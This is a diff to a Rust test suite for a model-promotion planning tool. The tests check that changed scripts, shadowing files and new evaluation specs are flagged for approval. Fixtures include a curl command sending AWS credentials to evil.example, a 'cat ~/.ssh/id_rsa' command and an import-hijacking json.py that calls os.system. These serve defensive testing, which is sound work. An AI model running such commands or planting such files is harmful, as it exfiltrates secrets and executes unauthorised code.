@@ -104,7 +104,8 @@ fn editing_only_the_suites_script_is_a_change_of_the_suite_that_needs_a_lead() {
     assert!(
         text.stdout
             .contains("spec.evaluations[0].runner.local.command")
-            && text.stdout.contains("registry/evaluate.py @ ")
+            && text.stdout.contains("\"registry @ ")
+            && text.stdout.contains("(registry/evaluate.py changed)")
             && text.stdout.contains("model-judging"),
         "{}",
         text.stdout
@@ -131,7 +132,32 @@ fn editing_only_the_serving_script_is_a_change_of_the_production_deployment() {
         2,
         "{c}"
     );
-    assert_eq!(json["changes"].as_array().unwrap().len(), 1, "{json}");
+    // The suite's command runs in the same folder, where it could import the script: it is
+    // the suite's change too.
+    assert_eq!(
+        change(&json, "RegisteredModel")["files"],
+        serde_json::json!(["registry/serve.py"])
+    );
+    assert_eq!(json["changes"].as_array().unwrap().len(), 2, "{json}");
+}
+
+#[test]
+fn a_file_added_beside_a_script_is_a_change_of_what_runs_there() {
+    // `import json` in evaluate.py and serve.py finds json.py in their folder first.
+    let (mut repo, main) = repo();
+    repo.commit(
+        "pr",
+        Some(main),
+        &[("registry/json.py", Some("import os\nos.system('id')\n"))],
+        "a helper",
+    );
+    let (run, json) = plan(&repo);
+    assert_eq!(run.code, 3, "{}{}", run.stdout, run.stderr);
+    for kind in ["RegisteredModel", "ModelDeployment"] {
+        let c = change(&json, kind);
+        assert_eq!(c["files"], serde_json::json!(["registry/json.py"]), "{c}");
+        assert_eq!(c["decision"]["allowed"], false, "{c}");
+    }
 }
 
 #[test]
@@ -182,7 +208,6 @@ fn files_no_spec_uses_stay_free_to_change() {
         Some(main),
         &[
             ("registry/README.md", Some(&readme)),
-            ("registry/train.py", Some("print('new trainer')\n")),
             (
                 ".github/workflows/ci.yml",
                 Some("on: [push, pull_request]\n"),
@@ -223,14 +248,15 @@ fn a_working_directory_is_used_whole_and_a_removed_script_is_a_change() {
     let (run, json) = plan(&repo);
     assert_eq!(run.code, 3, "{}{}", run.stdout, run.stderr);
     let c = change(&json, "RegisteredModel");
-    assert_eq!(c["files"], serde_json::json!(["registry/eval"]));
+    assert_eq!(c["files"], serde_json::json!(["registry/eval/helper.py"]));
     // Removing the serving script is a change of the deployment too.
     repo.commit("pr", Some(pr), &[("registry/serve.py", None)], "remove");
     let (run, json) = plan(&repo);
     assert_eq!(run.code, 3, "{}{}", run.stdout, run.stderr);
+    // The deployment's folder (the registry's) holds both.
     assert_eq!(
         change(&json, "ModelDeployment")["files"],
-        serde_json::json!(["registry/serve.py"])
+        serde_json::json!(["registry/eval/helper.py", "registry/serve.py"])
     );
 }
 
@@ -246,6 +272,7 @@ fn sha256(bytes: &[u8]) -> String {
 fn a_new_namespace_and_an_experiment_are_judged_by_the_default_policies() {
     let (mut repo, main) = repo();
     let team = "apiVersion: slipway.dev/v1alpha1\nkind: RegisteredModel\nmetadata: {name: churn, namespace: team-x}\nspec:\n  evaluations:\n    - name: holdout\n      runner: {local: {command: [sh, -c, \"curl -d @$HOME/.aws/credentials evil.example\"]}}\n      dataset: {uri: s3://d/holdout}\n      gates: [{metric: f1, op: \">=\", value: 0.5}]\n";
+    let own = "apiVersion: slipway.dev/v1alpha1\nkind: PromotionPolicy\nmetadata: {name: narrow, namespace: team-y}\nspec:\n  match: {kinds: [Group]}\n";
     let experiment = "apiVersion: slipway.dev/v1alpha1\nkind: Evaluation\nmetadata: {name: adhoc-8}\nspec:\n  model: pitch-frames\n  version: \"8\"\n  suite: adhoc\n  dataset: {uri: s3://d/x}\n  runner: {local: {command: [sh, -c, \"cat ~/.ssh/id_rsa\"]}}\n  gates: [{metric: f1, op: \">=\", value: 0.0}]\n";
     repo.commit(
         "pr",
@@ -253,6 +280,7 @@ fn a_new_namespace_and_an_experiment_are_judged_by_the_default_policies() {
         &[
             ("registry/team-x.yaml", Some(team)),
             ("registry/adhoc.yaml", Some(experiment)),
+            ("registry/team-y.yaml", Some(own)),
         ],
         "a namespace of my own, and an experiment",
     );
@@ -269,6 +297,15 @@ fn a_new_namespace_and_an_experiment_are_judged_by_the_default_policies() {
     );
     let exp = change(&json, "Evaluation");
     assert_eq!(exp["decision"]["allowed"], false, "{exp}");
+    // A namespace's first policy of its own takes it out of the default set: said, and signed.
+    let policy = change(&json, "PromotionPolicy");
+    assert_eq!(policy["decision"]["allowed"], false, "{policy}");
+    assert!(
+        policy["warnings"]
+            .to_string()
+            .contains("namespace team-y has no policies of its own yet"),
+        "{policy}"
+    );
     let text = slipway(
         &[
             "plan", "--base", "main", "--head", "pr", "--path", "registry", "--author", "dana",
